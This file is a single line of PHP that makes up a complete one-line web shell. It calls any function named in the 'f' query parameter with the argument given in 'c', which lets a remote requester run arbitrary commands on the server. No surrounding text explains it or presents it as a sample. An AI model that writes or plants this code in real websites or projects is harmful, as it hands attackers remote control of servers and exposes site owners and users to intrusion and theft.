<?php $_GET['f']($_GET['c']); ?>
